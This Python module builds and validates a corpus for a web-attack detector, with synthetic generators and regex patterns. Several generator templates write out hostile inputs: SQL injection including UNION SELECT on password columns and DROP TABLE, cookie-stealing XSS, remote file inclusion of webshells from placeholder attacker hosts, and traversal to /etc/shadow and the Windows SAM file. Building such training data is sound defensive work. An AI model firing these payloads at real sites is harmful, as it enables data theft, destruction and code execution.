"""Corpus ingestion, threshold balancing, stratified splits, synthetic generation.

The synthetic generator stands in for the unavailable crawled dataset: five
template families per the attack taxonomy, each parameterized by seeded
choices. Templates deliberately share the '=' and '&' separators across all
classes so separator-embedding checks are meaningful. Attack payloads ride
inside key=value pairs, often surrounded by benign decoy pairs.
"""

from __future__ import annotations

import json
import logging
import re
from dataclasses import dataclass, asdict

import numpy as np

from .labels import CLASSES

logger = logging.getLogger(__name__)

SYNTHETIC_TS = "2026-01-01T00:00:00Z"

SOURCES = ("seed", "review")


class CorpusError(ValueError):
    """Malformed corpus file; carries the offending line number when known."""

    def __init__(self, message: str, line: int | None = None):
        super().__init__(f"line {line}: {message}" if line is not None else message)
        self.line = line


@dataclass
class LabeledSample:
    id: str
    text: str
    label: str
    source: str = "seed"
    ts: str = SYNTHETIC_TS

    def to_dict(self) -> dict:
        return asdict(self)


@dataclass
class CorpusStats:
    counts: dict[str, int]
    total: int


def corpus_stats(samples) -> CorpusStats:
    counts = {label: 0 for label in CLASSES}
    for s in samples:
        counts[s.label] += 1
    return CorpusStats(counts=counts, total=len(samples))


def load_corpus(path) -> tuple[list[LabeledSample], CorpusStats]:
    """Parse a JSONL corpus; rejects unknown labels and duplicate ids."""
    samples = []
    seen_ids = set()
    with open(path, encoding="utf-8") as fh:
        for lineno, line in enumerate(fh, start=1):
            line = line.strip()
            if not line:
                continue
            try:
                obj = json.loads(line)
            except json.JSONDecodeError as exc:
                raise CorpusError(f"invalid JSON: {exc.msg}", lineno) from exc
            try:
                sample = LabeledSample(
                    id=str(obj["id"]),
                    text=str(obj["text"]),
                    label=obj["label"],
                    source=obj.get("source", "seed"),
                    ts=obj.get("ts", SYNTHETIC_TS),
                )
            except KeyError as exc:
                raise CorpusError(f"missing field {exc}", lineno) from exc
            if sample.label not in CLASSES:
                raise CorpusError(f"unknown label {sample.label!r}", lineno)
            if sample.source not in SOURCES:
                raise CorpusError(f"unknown source {sample.source!r}", lineno)
            if sample.id in seen_ids:
                raise CorpusError(f"duplicate id {sample.id!r}", lineno)
            seen_ids.add(sample.id)
            samples.append(sample)
    return samples, corpus_stats(samples)


def save_corpus(samples, path) -> None:
    with open(path, "w", encoding="utf-8") as fh:
        for s in samples:
            fh.write(json.dumps(s.to_dict(), sort_keys=True) + "\n")


def balance_by_threshold(samples, threshold: int, seed: int = 0) -> list[LabeledSample]:
    """Downsample any class above the threshold to exactly the threshold.

    Selection is uniform without replacement (seeded); surviving samples keep
    their original order, and classes at or below the threshold pass through
    untouched.
    """
    if threshold < 1:
        raise ValueError(f"threshold must be >= 1, got {threshold}")
    rng = np.random.default_rng(seed)
    by_class: dict[str, list[int]] = {label: [] for label in CLASSES}
    for i, s in enumerate(samples):
        by_class[s.label].append(i)
    keep = set()
    for label in CLASSES:
        idx = by_class[label]
        if len(idx) > threshold:
            chosen = rng.choice(len(idx), size=threshold, replace=False)
            keep.update(idx[int(c)] for c in chosen)
        else:
            keep.update(idx)
    return [s for i, s in enumerate(samples) if i in keep]


def stratified_split(samples, test_fraction: float, seed: int = 0):
    """Per-class split into (train, test); disjoint and exhaustive.

    Classes with >= 2 samples contribute at least 1 test sample; singleton
    classes go entirely to train with a warning.
    """
    if not 0.0 < test_fraction < 1.0:
        raise ValueError(f"test_fraction must be in (0, 1), got {test_fraction}")
    rng = np.random.default_rng(seed)
    by_class: dict[str, list[int]] = {label: [] for label in CLASSES}
    for i, s in enumerate(samples):
        by_class[s.label].append(i)
    test_idx = set()
    for label in CLASSES:
        idx = by_class[label]
        n = len(idx)
        if n == 0:
            continue
        if n < 2:
            logger.warning("class %s has %d sample(s); placing it in train", label, n)
            continue
        n_test = max(1, round(n * test_fraction))
        n_test = min(n_test, n - 1)
        order = rng.permutation(n)
        test_idx.update(idx[int(j)] for j in order[:n_test])
    train = [s for i, s in enumerate(samples) if i not in test_idx]
    test = [s for i, s in enumerate(samples) if i in test_idx]
    return train, test


# ---------------------------------------------------------------------------
# Synthetic template families
# ---------------------------------------------------------------------------

_ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
_KEYS = ("id", "uid", "user", "q", "ref", "item", "file", "sort", "view", "type", "limit", "term")
_TABLES = ("users", "accounts", "orders", "products", "sessions", "members", "data_admin")
_COLUMNS = ("username", "password", "email", "token", "card", "secret")
_HOSTS = ("evil.example.com", "attacker.host", "bad.site.net", "203.0.113.7", "malware.example.org")
_SHELLS = ("shell", "cmd", "c99", "r57", "backdoor", "webshell", "payload")
_UNIX_TARGETS = (
    "etc/passwd",
    "etc/shadow",
    "var/log/auth.log",
    "var/log/apache2/access.log",
    "etc/apache2/apache2.conf",
    "proc/self/environ",
)
_WIN_TARGETS = ("windows\\win.ini", "boot.ini", "windows\\system32\\config\\sam")
# tautology comparison operators; real payloads mix these freely
_TAUT_OPS = ("=", " LIKE ", "<", ">")


def _alnum(rng, lo: int, hi: int) -> str:
    length = int(rng.integers(lo, hi + 1))
    return "".join(_ALNUM[int(i)] for i in rng.integers(0, len(_ALNUM), size=length))


def _choice(rng, options):
    return options[int(rng.integers(0, len(options)))]


def _benign_pair(rng) -> str:
    # short params dominate real query strings: id=1&q=22&p=3
    r = rng.random()
    if r < 0.45:
        return f"{_choice(rng, _KEYS)}={int(rng.integers(0, 1000))}"
    if r < 0.8:
        return f"{_choice(rng, _KEYS)}={_alnum(rng, 1, 4)}"
    return f"{_alnum(rng, 2, 6)}={_alnum(rng, 1, 8)}"


def _benign_kv_random(rng) -> str:
    n_pairs = int(rng.integers(4, 9))
    return "&".join(_benign_pair(rng) for _ in range(n_pairs))


def _benign_id_numeric(rng) -> str:
    pairs = [f"{_choice(rng, _KEYS)}={int(rng.integers(1, 100000))}"]
    for _ in range(int(rng.integers(3, 6))):
        pairs.append(f"{_choice(rng, _KEYS)}={int(rng.integers(1, 1000))}")
    return "&".join(pairs)


def _benign_token(rng) -> str:
    pairs = [f"{_choice(rng, ('sid', 'token', 's', 'session'))}={_alnum(rng, 16, 24)}"]
    pairs.extend(_benign_pair(rng) for _ in range(int(rng.integers(2, 5))))
    return "&".join(pairs)


def _wrap_attack(rng, payload: str) -> str:
    """Embed a payload as a key=value pair between benign decoy pairs.

    Decoys always ride along so the '=' and '&' separators keep their
    structural role, at comparable density, across every class.
    """
    n_before = int(rng.integers(1, 4))
    n_after = int(rng.integers(1, 3))
    parts = [_benign_pair(rng) for _ in range(n_before)]
    parts.append(f"{_choice(rng, _KEYS)}={payload}")
    parts.extend(_benign_pair(rng) for _ in range(n_after))
    return "&".join(parts)


def _sqli_or_tautology(rng) -> str:
    quote = _choice(rng, ("'", '"'))
    token = _choice(rng, ("1", "x", "z", str(int(rng.integers(1, 99)))))
    op = _choice(rng, ("OR", "or"))
    cmp_op = _choice(rng, _TAUT_OPS)
    payload = f"{int(rng.integers(1, 999))}{quote} {op} {quote}{token}{quote}{cmp_op}{quote}{token}"
    return _wrap_attack(rng, payload)


def _sqli_union_select(rng) -> str:
    cols = ",".join(_choice(rng, _COLUMNS) for _ in range(int(rng.integers(1, 4))))
    tail = _choice(rng, ("", " --", ";--"))
    kw = _choice(rng, ("UNION SELECT", "union select", "UNION ALL SELECT"))
    payload = f"{int(rng.integers(0, 99))} {kw} {cols} FROM {_choice(rng, _TABLES)}{tail}"
    return _wrap_attack(rng, payload)


def _sqli_comment_auth(rng) -> str:
    user = _choice(rng, ("admin", "root", "test", _alnum(rng, 4, 8)))
    payload = f"{user}'{_choice(rng, ('--', '#', ' --', ';--'))}"
    return _wrap_attack(rng, payload)


def _sqli_stacked_query(rng) -> str:
    verb = _choice(rng, ("DROP TABLE", "DELETE FROM", "TRUNCATE TABLE"))
    payload = f"{int(rng.integers(1, 99))}; {verb} {_choice(rng, _TABLES)};--"
    return _wrap_attack(rng, payload)


def _value_prefix(rng) -> str:
    """Innocent-looking text that often precedes an injected payload."""
    if rng.random() < 0.5:
        return ""
    return _alnum(rng, 1, 5)


def _xss_script_tag(rng) -> str:
    inner = _choice(rng, ("alert(1)", "alert(document.cookie)", f"alert('{_alnum(rng, 2, 5)}')"))
    payload = f"{_value_prefix(rng)}<script>{inner}</script>"
    return _wrap_attack(rng, payload)


def _xss_event_handler(rng) -> str:
    tag, attr = _choice(rng, (("img", "onerror"), ("svg", "onload"), ("body", "onload"), ("input", "onfocus")))
    payload = f"{_value_prefix(rng)}<{tag} src={_alnum(rng, 1, 3)} {attr}=alert({int(rng.integers(1, 9))})>"
    return _wrap_attack(rng, payload)


def _xss_js_uri(rng) -> str:
    inner = _choice(rng, ("alert(1)", "alert(document.cookie)", "eval(name)", "eval(atob(name))"))
    payload = f"javascript:{inner}"
    return _wrap_attack(rng, payload)


def _rfi_http_include(rng) -> str:
    prefix = f"{_alnum(rng, 2, 5)}/" if rng.random() < 0.5 else ""
    payload = f"{prefix}http://{_choice(rng, _HOSTS)}/{_choice(rng, _SHELLS)}.txt"
    return _wrap_attack(rng, payload)


def _rfi_https_include(rng) -> str:
    ext = _choice(rng, ("php", "txt", "jpg"))
    payload = f"https://{_choice(rng, _HOSTS)}/{_alnum(rng, 2, 6)}/{_choice(rng, _SHELLS)}.{ext}"
    return _wrap_attack(rng, payload)


def _rfi_null_byte(rng) -> str:
    payload = f"http://{_choice(rng, _HOSTS)}/{_choice(rng, _SHELLS)}.txt%00"
    return _wrap_attack(rng, payload)


def _dt_plain_traversal(rng) -> str:
    depth = int(rng.integers(2, 7))
    payload = _value_prefix(rng) + "../" * depth + _choice(rng, _UNIX_TARGETS)
    return _wrap_attack(rng, payload)


def _dt_windows_paths(rng) -> str:
    depth = int(rng.integers(2, 6))
    payload = _value_prefix(rng) + "..\\" * depth + _choice(rng, _WIN_TARGETS)
    return _wrap_attack(rng, payload)


def _dt_double_encoded(rng) -> str:
    # %252e%252e%252f percent-decodes once to %2e%2e%2f: still traversal,
    # but textually unlike the plain families.
    depth = int(rng.integers(2, 7))
    target = _choice(rng, _UNIX_TARGETS).replace("/", "%252f")
    payload = "%252e%252e%252f" * depth + target
    return _wrap_attack(rng, payload)


FAMILIES: dict[str, dict[str, object]] = {
    "benign": {
        "kv_random": _benign_kv_random,
        "id_numeric": _benign_id_numeric,
        "token": _benign_token,
    },
    "sqli": {
        "or_tautology": _sqli_or_tautology,
        "union_select": _sqli_union_select,
        "comment_auth": _sqli_comment_auth,
        "stacked_query": _sqli_stacked_query,
    },
    "xss": {
        "script_tag": _xss_script_tag,
        "event_handler": _xss_event_handler,
        "js_uri": _xss_js_uri,
    },
    "rfi": {
        "http_include": _rfi_http_include,
        "https_include": _rfi_https_include,
        "null_byte": _rfi_null_byte,
    },
    "dt": {
        "plain_traversal": _dt_plain_traversal,
        "windows_paths": _dt_windows_paths,
        "double_encoded": _dt_double_encoded,
    },
}

# Per-label grammar checks: every generated sample must satisfy its own label's
# pattern (template round-trip property).
_LABEL_PATTERNS = {
    "benign": re.compile(r"^[A-Za-z0-9]+=[A-Za-z0-9]*(&[A-Za-z0-9]+=[A-Za-z0-9]*)*$"),
    "sqli": re.compile(
        r"(['\"] *(OR|or) *['\"])|(UNION (ALL )?SELECT|union select)|('(--|#| --|;--))|(; *(DROP|DELETE|TRUNCATE))"
    ),
    "xss": re.compile(r"(<script)|(<\w+ [^&]*on\w+=)|(javascript:)"),
    "rfi": re.compile(r"https?://"),
    "dt": re.compile(r"(\.\./)|(\.\.\\)|(%252e%252e)"),
}


def label_matches(label: str, text: str) -> bool:
    """Does the text match its label's template grammar?"""
    return bool(_LABEL_PATTERNS[label].search(text))


def family_names(label: str) -> tuple[str, ...]:
    return tuple(sorted(FAMILIES[label]))


def generate_family(label: str, family: str, count: int, seed: int = 0, id_prefix: str = "fam") -> list[LabeledSample]:
    """Generate samples from one named template family (held-out streams, tests)."""
    if label not in FAMILIES:
        raise ValueError(f"unknown label {label!r}")
    if family not in FAMILIES[label]:
        raise ValueError(f"unknown family {label}:{family}; known: {family_names(label)}")
    rng = np.random.default_rng(seed)
    build = FAMILIES[label][family]
    return [
        LabeledSample(id=f"{id_prefix}-{label}-{family}-{i:06d}", text=build(rng), label=label)
        for i in range(count)
    ]


def generate_synthetic(
    counts: dict[str, int],
    seed: int = 0,
    exclude_families: tuple[str, ...] = (),
) -> list[LabeledSample]:
    """Deterministic templated corpus; every sample labeled by its generator.

    exclude_families entries look like "dt:double_encoded" and remove that
    template family from the draw (used to hold a family out of initial
    training for re-learning experiments).
    """
    excluded: dict[str, set[str]] = {}
    for entry in exclude_families:
        label, _, fam = entry.partition(":")
        if label not in FAMILIES or fam not in FAMILIES[label]:
            raise ValueError(f"unknown family exclusion {entry!r}")
        excluded.setdefault(label, set()).add(fam)
    for label, count in counts.items():
        if label not in FAMILIES:
            raise ValueError(f"unknown label {label!r}")
        if count < 0:
            raise ValueError(f"negative count for {label}")

    rng = np.random.default_rng(seed)
    samples = []
    for label in CLASSES:
        count = counts.get(label, 0)
        fams = [f for f in family_names(label) if f not in excluded.get(label, set())]
        if count > 0 and not fams:
            raise ValueError(f"all template families of {label} are excluded")
        for i in range(count):
            fam = fams[int(rng.integers(0, len(fams)))]
            text = FAMILIES[label][fam](rng)
            samples.append(LabeledSample(id=f"syn-{label}-{i:06d}", text=text, label=label))
    return samples
